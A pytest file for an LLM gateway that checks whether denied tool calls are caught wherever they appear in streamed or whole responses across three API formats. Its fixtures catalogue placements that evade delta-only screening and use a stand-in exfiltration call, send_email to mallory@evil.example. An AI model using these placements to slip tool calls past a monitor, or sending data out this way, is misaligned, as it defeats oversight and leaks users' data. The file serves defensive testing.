"""Places of an answer where a tool call can stand and a check that reads deltas does not look.

Gateways that screen streams by their deltas have let calls pass that way (LiteLLM #35257: Messages streams were never
scanned; the review of its pull request 39888: arguments split over deltas). A client believes every one of these.
"""

import json

import pytest
from tests.gateway.called import ASKED, READ, written

from bartizan.core.sections.policy import Policy
from bartizan.gateway.stream import CHANGED, Holdback
from bartizan.gateway.toolcalls import ToolCalls
from bartizan.gateway.whole import screen_whole
from bartizan.gateway.wires.anthropic_messages import AnthropicMessages
from bartizan.gateway.wires.openai_chat import OpenAIChat
from bartizan.gateway.wires.openai_responses import OpenAIResponses

EVIL = {"to": "mallory@evil.example", "body": "9931"}
TEXT = json.dumps(EVIL)
CHAT = [
    {"role": "user", "content": ASKED},
    {"role": "assistant", "tool_calls": [{"id": "c", "function": {"name": "inbox", "arguments": "{}"}}]},
    {"role": "tool", "tool_call_id": "c", "content": READ},
]
MESSAGES = [
    {"role": "user", "content": ASKED},
    {"role": "assistant", "content": [{"type": "tool_use", "id": "c", "name": "inbox", "input": {}}]},
    {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "c", "content": READ}]},
]
INPUT = [
    {"role": "user", "content": ASKED},
    {"type": "function_call", "call_id": "c", "name": "inbox", "arguments": "{}"},
    {"type": "function_call_output", "call_id": "c", "output": READ},
]
REQUESTS = {
    OpenAIChat: {"model": "m", "messages": CHAT},
    AnthropicMessages: {"model": "m", "max_tokens": 9, "messages": MESSAGES},
    OpenAIResponses: {"model": "m", "input": INPUT},
}
BLOCK = {"type": "tool_use", "id": "t", "name": "send_email", "input": EVIL}
ITEM = {"type": "function_call", "id": "f", "call_id": "c1", "name": "send_email", "arguments": TEXT}
RESPONSE = {"id": "r", "object": "response", "status": "completed", "output": []}
STOP = [{"type": "message_delta", "delta": {"stop_reason": "tool_use"}}, {"type": "message_stop"}]


def judged(wire):
    """The reader and the decider of a request in which a stranger's text was read."""
    asked = wire().parse(json.dumps({**REQUESTS[wire], "stream": True}).encode())
    return wire().reader(asked), ToolCalls(Policy(tool_calls="enforce")).of(asked.prompt, [].append)


def streamed(wire, events):
    """What leaves of a stream."""
    reader, decide = judged(wire)
    holdback = Holdback(reader, (), decide)
    out = holdback.feed(written(events, named=wire is not OpenAIChat)) + holdback.end()
    return out, holdback


def chunk(call, finish=None):
    return {"id": "x", "choices": [{"index": 0, "delta": call, "finish_reason": finish}]}


STREAMS = {
    "chat: arguments as an object": (
        OpenAIChat,
        [
            chunk({"tool_calls": [{"index": 0, "id": "c", "function": {"name": "send_email", "arguments": EVIL}}]}),
            chunk({}, "tool_calls"),
        ],
    ),
    "chat: a custom tool's free text": (
        OpenAIChat,
        [
            chunk({"tool_calls": [{"index": 0, "id": "c", "custom": {"name": "send_email", "input": "mallory"}}]}),
            chunk({}, "tool_calls"),
        ],
    ),
    "chat: a name in two parts, of which the second one only reads": (
        OpenAIChat,
        [
            chunk({"tool_calls": [{"index": 0, "id": "c", "function": {"name": "send_", "arguments": TEXT}}]}),
            chunk({"tool_calls": [{"index": 0, "function": {"name": "email"}}]}),
            chunk({}, "tool_calls"),
        ],
    ),
    "chat: the older function_call": (
        OpenAIChat,
        [chunk({"function_call": {"name": "send_email", "arguments": TEXT}}), chunk({}, "function_call")],
    ),
    "messages: the input in the block's start": (
        AnthropicMessages,
        [
            {"type": "content_block_start", "index": 0, "content_block": BLOCK},
            {"type": "content_block_stop", "index": 0},
            *STOP,
        ],
    ),
    "messages: the input in the start, harmless deltas after it": (
        AnthropicMessages,
        [
            {"type": "content_block_start", "index": 0, "content_block": BLOCK},
            {
                "type": "content_block_delta",
                "index": 0,
                "delta": {"type": "input_json_delta", "partial_json": "{}"},
            },
            {"type": "content_block_stop", "index": 0},
            *STOP,
        ],
    ),
    "messages: in the message's start": (
        AnthropicMessages,
        [{"type": "message_start", "message": {"id": "m", "role": "assistant", "content": [BLOCK]}}, *STOP],
    ),
    "responses: in the last event only": (
        OpenAIResponses,
        [{"type": "response.completed", "response": {**RESPONSE, "output": [ITEM]}}],
    ),
    "responses: in the item's end only": (
        OpenAIResponses,
        [{"type": "response.output_item.done", "output_index": 0, "item": ITEM}],
    ),
    "responses: in the item's beginning": (
        OpenAIResponses,
        [
            {"type": "response.output_item.added", "output_index": 0, "item": ITEM},
            {"type": "response.completed", "response": {**RESPONSE, "output": [ITEM]}},
        ],
    ),
    "responses: in progress": (
        OpenAIResponses,
        [{"type": "response.in_progress", "response": {**RESPONSE, "output": [ITEM]}}],
    ),
    "responses: a custom tool's free text": (
        OpenAIResponses,
        [
            {
                "type": "response.output_item.done",
                "output_index": 0,
                "item": {
                    "type": "custom_tool_call",
                    "id": "i",
                    "call_id": "c",
                    "name": "send_email",
                    "input": "mallory",
                },
            }
        ],
    ),
}


@pytest.mark.parametrize("place", STREAMS)
def test_a_denied_call_does_not_leave_from(place):
    """Wherever it stands in a stream."""
    out, holdback = streamed(*STREAMS[place])
    assert b"mallory" not in out
    assert b"9931" not in out
    assert [finding.rule for finding in holdback.findings][:1] == ["tool-call"]


def test_a_call_that_changes_between_two_of_its_events_does_not_leave():
    """Harmless while it is streamed, hostile in the event that a client's library keeps."""
    harmless = {**ITEM, "name": "read_mail", "arguments": '{"id": "7"}'}
    begun = [
        {"type": "response.output_item.added", "output_index": 0, "item": {**harmless, "arguments": ""}},
        {"type": "response.function_call_arguments.delta", "output_index": 0, "delta": harmless["arguments"]},
        {
            "type": "response.function_call_arguments.done",
            "output_index": 0,
            "item_id": "f",
            "arguments": harmless["arguments"],
        },
    ]
    for late in ({**ITEM, "call_id": "c1"}, {**harmless, "name": "send_email"}):
        for end in (
            {"type": "response.output_item.done", "output_index": 0, "item": late},
            {"type": "response.completed", "response": {**RESPONSE, "output": [late]}},
        ):
            out, holdback = streamed(OpenAIResponses, [*begun, end])
            assert b"mallory" not in out
            assert b"send_email" not in out
            assert holdback.blocked == CHANGED or b"Denied by policy" in out
    spaced = {**harmless, "arguments": '{"id":"7"}'}
    out, holdback = streamed(
        OpenAIResponses, [*begun, {"type": "response.output_item.done", "output_index": 0, "item": spaced}]
    )
    assert holdback.blocked == ""


WHOLES = {
    "the older function_call": (
        OpenAIChat,
        {
            "choices": [
                {
                    "message": {"content": None, "function_call": {"name": "send_email", "arguments": TEXT}},
                    "finish_reason": "function_call",
                }
            ]
        },
    ),
    "arguments as an object": (
        OpenAIChat,
        {
            "choices": [
                {"message": {"tool_calls": [{"id": "c", "function": {"name": "send_email", "arguments": EVIL}}]}}
            ]
        },
    ),
    "a custom tool's free text": (
        OpenAIChat,
        {"choices": [{"message": {"tool_calls": [{"id": "c", "custom": {"name": "send_email", "input": "mallory"}}]}}]},
    ),
    "a custom tool's free text in a response": (
        OpenAIResponses,
        {"output": [{"type": "custom_tool_call", "call_id": "c", "name": "send_email", "input": "mallory"}]},
    ),
}


@pytest.mark.parametrize("place", WHOLES)
def test_a_denied_call_of_a_whole_answer_does_not_leave_from(place):
    """Wherever it stands; a text says why."""
    wire, document = WHOLES[place]
    reader, decide = judged(wire)
    outcome = screen_whole(reader, (), json.dumps(document).encode(), decide)
    assert b"mallory" not in outcome.body
    assert b"Denied by policy" in outcome.body
    assert outcome.blocked == ""
